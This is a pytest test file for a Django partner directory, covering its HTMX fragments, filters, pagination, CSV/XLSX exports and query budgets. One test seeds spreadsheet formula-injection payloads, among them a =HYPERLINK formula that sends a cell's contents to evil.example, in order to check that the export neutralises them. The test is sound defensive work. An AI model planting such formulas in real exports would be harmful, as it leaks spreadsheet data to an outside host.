"""The staff partner directory: HTMX fragment, filters, pagination, CSV export and query budget."""

import csv
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.testing import make_member, make_partner, make_user
from core.listing import PAGE_SIZE
from core.roles import StaffRole
from partners.choices import PartnerStatus, PartnerType

pytestmark = pytest.mark.django_db

HX = {"HX-Request": "true"}


def rows(response):
    return list(response.context["page"].object_list)


def export(client, query=""):
    response = client.get(f"/partners/export.csv{query}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="partners-')
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_htmx_request_gets_only_the_results_fragment(world, login):
    client = login(world.cam)
    full = client.get("/partners/")
    assert b"<html" in full.content and b'id="results"' in full.content and b"<form" in full.content

    fragment = client.get("/partners/?q=alpha", headers=HX)
    assert fragment.status_code == 200
    content = fragment.content.decode()
    # The filters stay as they are (the results hold only the bulk actions' form, which acts on these rows).
    assert "<html" not in content and "<body" not in content and 'class="filters"' not in content
    assert 'id="bulk-form"' in content
    assert "Alpha Systems" in content and "Bravo Trading" not in content
    assert "1 partner" in content
    assert "<table" in content


def test_filter_by_account_manager_and_unassigned(world, login):
    world.partner_b.cam = world.chief
    world.partner_b.save()
    orphan = make_partner("Orphan Works", cam=None)
    client = login(world.cam)

    by_chief = client.get(f"/partners/?cam={world.chief.public_id}", headers=HX)
    assert [p.name for p in rows(by_chief)] == ["Bravo Trading"]
    unassigned = client.get("/partners/?cam=none", headers=HX)
    assert rows(unassigned) == [orphan]
    assert b"unassigned" in unassigned.content
    by_cam = client.get(f"/partners/?cam={world.cam.public_id}&sort=name")
    assert [p.name for p in rows(by_cam)] == ["Alpha Systems", "Delta Distribution", "Rho Retail"]


def test_other_filters(world, login):
    world.partner_b.status = PartnerStatus.AT_RISK
    world.partner_b.verticals = ["healthcare"]
    world.partner_b.save()
    client = login(world.marketing)
    assert rows(client.get("/partners/?status=at_risk")) == [world.partner_b]
    assert rows(client.get("/partners/?vertical=healthcare")) == [world.partner_b]
    assert rows(client.get("/partners/?region=north_america")) == [world.partner_b]
    assert rows(client.get("/partners/?partner_type=retailer")) == [world.reseller]
    assert rows(client.get("/partners/?q=boston")) == [world.partner_b]
    assert rows(client.get("/partners/?q=nothing-matches-this")) == []


def test_an_invalid_filter_value_does_not_drop_the_valid_ones(world, login):
    world.partner_b.status = PartnerStatus.AT_RISK
    world.partner_b.save()
    client = login(world.cam)
    response = client.get("/partners/?status=at_risk&sort=bogus&cam=ffffffff-ffff-ffff-ffff-ffffffffffff")
    assert rows(response) == [world.partner_b]
    exported = export(client, "?status=at_risk&region=atlantis")
    assert [r["name"] for r in exported] == ["Bravo Trading"]


def test_pagination(world, login):
    for i in range(30):
        make_partner(f"Zeta {i:02d}")
    client = login(world.cam)
    first = client.get("/partners/?sort=name")
    assert len(rows(first)) == PAGE_SIZE
    assert first.context["total"] == 34
    assert b"Page 1 of 2" in first.content
    assert b'href="?sort=name&amp;page=2"' in first.content

    second = client.get("/partners/?sort=name&page=2", headers=HX)
    assert len(rows(second)) == 34 - PAGE_SIZE
    assert b"<html" not in second.content
    assert {p.pk for p in rows(first)}.isdisjoint({p.pk for p in rows(second)})
    assert rows(second)[-1].name == "Zeta 29"
    # out-of-range and junk page numbers land on a real page
    assert rows(client.get("/partners/?sort=name&page=99")) == rows(second)
    assert rows(client.get("/partners/?sort=name&page=abc")) == rows(first)


def test_export_is_filtered_not_paginated(world, login):
    for i in range(30):
        make_partner(f"Zeta {i:02d}", status=PartnerStatus.PROSPECT)
    client = login(world.cam)
    exported = export(client, "?status=prospect&page=1")
    assert len(exported) == 30
    assert {r["status"] for r in exported} == {"prospect"}
    everyone = export(client)
    assert len(everyone) == 34
    rho = next(r for r in everyone if r["name"] == "Rho Retail")
    assert rho["distributor"] == "Delta Distribution" and rho["cam_email"] == "cam@vendor.test"


def test_export_neutralises_spreadsheet_formulas(world, login):
    make_partner(
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        legal_name="+SUM(A1:A9)",
        city="@cmd",
        tax_id="-2+3",
    )
    make_partner("Tabby", legal_name="\t=1+1", city="\r=1+1")
    make_partner("Plain - Name", legal_name="O'Brien & Sons", city="Köln")
    client = login(world.cam)
    by_name = {r["name"]: r for r in export(client)}

    evil = by_name['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")']
    assert evil["legal_name"] == "'+SUM(A1:A9)"
    assert evil["city"] == "'@cmd"
    assert evil["tax_id"] == "'-2+3"
    tabby = by_name["Tabby"]
    assert tabby["legal_name"] == "'\t=1+1"
    assert tabby["city"] == "'\r=1+1"
    # ordinary values are left alone
    plain = by_name["Plain - Name"]
    assert (plain["legal_name"], plain["city"]) == ("O'Brien & Sons", "Köln")
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in by_name)


def test_partner_users_cannot_export(world, login):
    assert login(world.admin_a).get("/partners/export.csv").status_code == 403
    assert login(world.dist_admin).get("/partners/", headers=HX).status_code == 403


def _directory_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get("/partners/?sort=name")
    assert response.status_code == 200
    return len(queries)


def _add_partners(count: int, start: int):
    """Partners with their own manager, distributor and members: everything a row could look up lazily."""
    for i in range(start, start + count):
        cam = make_user(f"cam{i}@vendor.test", staff_role=StaffRole.CAM)
        distributor = make_partner(f"Dist {i:02d}", partner_type=PartnerType.DISTRIBUTOR, cam=cam)
        partner = make_partner(f"Shop {i:02d}", parent=distributor, cam=cam, country="FR", region="europe")
        make_member(partner, f"user{i}@shop.test")


def test_directory_query_count_does_not_grow_with_partners(db, login, django_assert_max_num_queries):
    viewer = make_user("viewer@vendor.test", staff_role=StaffRole.CAM)
    client = login(viewer)
    make_partner("Seed One", cam=viewer)
    _add_partners(1, start=0)  # 3 partners
    small = _directory_queries(client)

    _add_partners(12, start=1)
    make_partner("Seed Two", cam=None)
    make_partner("Seed Three", cam=viewer)
    make_partner("Seed Four", cam=None)
    from partners.models import Partner

    assert Partner.objects.count() == 30
    with django_assert_max_num_queries(small):
        response = client.get("/partners/?sort=name")
    assert len(rows(response)) == PAGE_SIZE


def test_export_query_count_does_not_grow_with_partners(db, login, django_assert_max_num_queries):
    viewer = make_user("viewer@vendor.test", staff_role=StaffRole.CAM)
    client = login(viewer)
    _add_partners(1, start=0)
    with CaptureQueriesContext(connection) as queries:
        export(client)
    small = len(queries)
    _add_partners(14, start=1)
    with django_assert_max_num_queries(small):
        exported = export(client)
    assert len(exported) == 30


# --- the one list shape: export links in the fragment, XLSX, constant query budgets ------------------------


def _queries(client, path) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(path)
        if hasattr(response, "streaming_content"):
            b"".join(response.streaming_content)
    assert response.status_code == 200, path
    return len(ctx.captured_queries)


def _xlsx_names(response) -> list[str]:
    import zipfile

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith('attachment; filename="partners-')
    book = zipfile.ZipFile(io.BytesIO(response.content))
    strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    return [name for name in (f"Zeta {i:02d}" for i in range(40)) if name in strings or name in sheet]


def test_csv_and_xlsx_exports_hold_exactly_the_filtered_rows_of_every_page(world, login):
    for i in range(30):
        make_partner(f"Zeta {i:02d}", status=PartnerStatus.PROSPECT if i % 3 else PartnerStatus.ACTIVE)
    make_partner("Zeta 39", status=PartnerStatus.PROSPECT, region="north_america")
    client = login(world.cam)
    fragment = client.get("/partners/?status=prospect&region=europe&sort=name", headers=HX).content.decode()
    links = re.findall(r'href="(/partners/export\.csv\?[^"]*)"', fragment)
    assert len(links) == 2, fragment  # CSV and XLSX, inside the fragment the filters replace
    csv_url, xlsx_url = (link.replace("&amp;", "&") for link in links)
    assert "status=prospect" in csv_url and "region=europe" in csv_url and "format=xlsx" in xlsx_url

    expected = sorted(f"Zeta {i:02d}" for i in range(30) if i % 3)
    assert len(expected) == 20
    assert sorted(r["name"] for r in export(client, csv_url.removeprefix("/partners/export.csv"))) == expected
    assert sorted(_xlsx_names(client.get(xlsx_url))) == expected

    # more rows than one page: the export is every page, the page is one
    assert len(export(client, "?q=zeta")) == 31
    assert len(_xlsx_names(client.get("/partners/export.csv?q=zeta&format=xlsx"))) == 31
    assert len(rows(client.get("/partners/?q=zeta"))) == PAGE_SIZE


def test_the_directory_sorts_by_its_headings(world, login):
    client = login(world.cam)
    page = client.get("/partners/").content.decode()
    assert 'href="?sort=name"' in page and 'href="?sort=status"' in page
    descending = client.get("/partners/?sort=-name", headers=HX)
    names = [p.name for p in rows(descending)]
    assert names == sorted(names, reverse=True)
    assert 'aria-sort="descending"' in descending.content.decode()


@pytest.mark.parametrize(
    "path",
    [
        "/partners/",
        "/partners/?sort=-status&region=europe",
        "/partners/export.csv",
        "/partners/export.csv?format=xlsx",
    ],
)
def test_directory_pages_and_exports_have_a_constant_query_budget(db, login, path):
    viewer = make_user("viewer@vendor.test", staff_role=StaffRole.CAM)
    client = login(viewer)
    _add_partners(1, start=0)
    _queries(client, path)  # the session's first request does its own bookkeeping
    few = _queries(client, path)
    _add_partners(12, start=1)
    assert _queries(client, path) == few


@pytest.mark.parametrize("who", ["staff", "partner"])
def test_the_api_list_has_a_constant_query_budget(db, api_client, who):
    viewer = make_user("viewer@vendor.test", staff_role=StaffRole.CAM)
    _add_partners(1, start=0)
    if who == "partner":
        from partners.models import Partner

        distributor = Partner.objects.get(name="Dist 00")
        viewer = make_member(distributor, "admin@dist.test")
        add = lambda: [make_partner(f"Shop x{i:02d}", parent=distributor) for i in range(12)]  # noqa: E731
    else:
        add = lambda: _add_partners(12, start=1)  # noqa: E731
    client = api_client(viewer)
    _queries(client, "/api/partners?sort=name")
    few = _queries(client, "/api/partners?sort=name")
    add()
    assert _queries(client, "/api/partners?sort=name") == few
    assert client.get("/api/partners?limit=100").json()["count"] >= 13
